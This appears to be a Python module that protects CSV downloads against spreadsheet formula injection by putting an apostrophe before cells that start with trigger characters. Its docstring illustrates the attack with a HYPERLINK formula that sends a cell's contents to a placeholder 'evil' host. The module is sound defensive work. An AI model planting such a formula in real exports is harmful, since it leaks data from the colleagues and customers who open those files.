"""Spreadsheet formula neutralising for tables offered as downloads (CSV injection).

A cell such as ``=HYPERLINK("http://evil/?"&A1,"点我")`` from a customer's nickname runs as a
formula when a colleague opens the downloaded CSV in Excel or WPS. Cells starting with
``=``, ``+``, ``-``, ``@`` (or a tab / carriage return) get a leading apostrophe, which
spreadsheets show as text. Plain numbers such as ``-12.5`` are left alone.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$")


def neutralise(value: Any) -> Any:
    """A cell value safe to open in a spreadsheet; non-text values are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if _PLAIN_NUMBER.match(value.strip()):
        return value
    return "'" + value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def to_csv_bytes(frame: pd.DataFrame) -> bytes:
    """CSV for download: formulas neutralised, UTF-8 with BOM so Excel reads the Chinese."""
    return neutralise_frame(frame).to_csv(index=False).encode("utf-8-sig")
